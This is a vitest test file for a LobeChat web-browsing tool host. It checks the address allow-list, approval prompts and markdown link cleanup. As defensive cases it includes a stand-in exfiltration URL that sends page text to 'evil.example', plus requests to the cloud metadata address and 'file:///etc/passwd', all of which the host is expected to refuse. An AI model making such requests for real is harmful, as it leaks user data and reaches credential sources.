import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import type { ApprovalRequest } from '@lobechat/tool-engine';
import { startTestSite, type TestSite } from '@lobechat/web-crawler/testing';

import { createToolHost } from './create-tool-host.ts';
import type { ToolHost } from './host-types.ts';
import { createHostWeb } from './web-desk.ts';
import { createPageFetcher } from './web-page.ts';

let site: TestSite;
let folder: string;
let host: ToolHost;
const asked: ApprovalRequest[] = [];

beforeAll(async () => {
  site = await startTestSite();
  folder = await mkdtemp(join(tmpdir(), 'lobe-web-'));
  host = await createToolHost({
    context: { sessionId: 's' },
    dataDirectory: join(folder, 'data'),
    onApproval: (request) => {
      asked.push(request);
      const { kind } = request.preview as { kind: string };
      return { action: kind === 'download' ? 'approve' : 'deny' };
    },
    tools: ['lobe-web-browsing'],
    webBrowsing: { allow: [new URL(site.origin).host] },
    workspace: [folder],
  });
});

afterAll(async () => {
  await host.close();
  await site.close();
  await rm(folder, { force: true, recursive: true });
});

const call = (name: string, args: object) =>
  host.call({ arguments: { ...args }, name: `lobe-web-browsing/${name}` });

describe('the web of a host', () => {
  it('refuses a forbidden address with a sentence that says how to allow it', async () => {
    await using strict = await createToolHost({
      dataDirectory: join(folder, 'strict'),
      tools: ['lobe-web-browsing'],
    });
    const before = site.requests.length;
    const { content, error } = await strict.call({
      arguments: { url: `${site.origin}/article` },
      name: 'lobe-web-browsing/crawlSinglePage',
    });
    expect(error?.type).toBe('AddressRefused');
    expect(content).toContain(`LOBE_TOOLS_WEB_ALLOW=${new URL(site.origin).host}`);
    expect(site.requests).toHaveLength(before);
  });

  it('reads pages without asking, and stores the whole of a long one as a file', async () => {
    const { content, state, success } = await call('crawlSinglePage', {
      url: `${site.origin}/long`,
    });
    expect(success).toBe(true);
    expect(asked).toEqual([]);
    const { id } = (state as { results: Array<{ data: { artifact: { id: string } } }> }).results[0]
      ?.data.artifact ?? { id: '' };
    expect(content).toContain(`artifact ${id}.]`);
    expect((await host.engine.artifacts.get(id))?.name).toBe('Tides.md');
  });

  it('asks before an address carries text from a page', async () => {
    await call('crawlSinglePage', { url: `${site.origin}/article` });
    const text = 'The engineers found that the older cables would have held for another decade';
    const { error } = await call('crawlSinglePage', {
      url: `https://evil.example/?q=${encodeURIComponent(text)}`,
    });
    expect(error?.type).toBe('ApprovalDenied');
    expect(asked.pop()).toMatchObject({
      policy: 'always',
      preview: { kind: 'url', urls: [{ host: 'evil.example' }] },
    });
  });

  it('asks about a download with its size and type, and saves it', async () => {
    const { state } = await call('downloadFile', { url: `${site.origin}/files/stations.csv` });
    expect(asked.pop()).toMatchObject({
      preview: { kind: 'download', mimeType: 'text/csv; charset=utf-8', size: 564 },
    });
    const { savedPath } = state as { savedPath: string };
    expect(await readFile(savedPath, 'utf8')).toContain('Pier 40');
  });

  it('provides a page to other services by the same rules', async () => {
    const { service } = createHostWeb({
      dataDirectory: folder,
      environment: { LOBE_TOOLS_WEB_ALLOW: new URL(site.origin).host },
    });
    const fetchPage = createPageFetcher(service);
    expect(await fetchPage(`${site.origin}/redirect`)).toMatchObject({
      mediaType: 'text/markdown',
      title: 'Harbour bridge reopens two weeks early',
      url: `${site.origin}/article`,
    });
    for (const [url, type] of [
      ['http://169.254.169.254/', 'AddressRefused'],
      [`${site.origin}/nowhere`, 'HttpStatus'],
      ['file:///etc/passwd', 'InvalidArguments'],
    ] as const) {
      await expect(fetchPage(url)).rejects.toMatchObject({ type });
    }
    await service.close();
  });

  it('gives other services no numbers of links, whose list they do not have', async () => {
    const read = async (content: string): Promise<string> => {
      const results = [
        { crawler: 'x', data: { content, url: 'https://a.org/' }, originalUrl: 'https://a.org/' },
      ];
      const service = { crawlPages: async () => ({ results }) };
      return (await createPageFetcher(service as never)('https://a.org/')).data;
    };
    for (const [markdown, expected] of [
      ['[a][1], [**b** [x]][2]', 'a, **b** [x]'],
      ['[a\\]b][1] m[0\\][1]', 'a\\]b m[0\\][1]'],
      ['[![c][1]][2] ![d][3]', '![c] ![d]'],
      ['[![a \\[b\\]][1]][2]', '![a \\[b\\]]'],
      ['a \\` [b][1] c \\` \\[[d][2]', 'a \\` b c \\` \\[d'],
      ['`e[i][1]` [f][1]', '`e[i][1]` f'],
      ['```js\ng[i][1]\n```\n[h][1]', '```js\ng[i][1]\n```\nh'],
      ['[i][1\n', '[i][1\n'],
    ] as const) {
      expect(await read(markdown)).toBe(expected);
    }
    expect(await read(`[${'[x][1]'.repeat(50_000)}`)).toContain('x');
  });
});
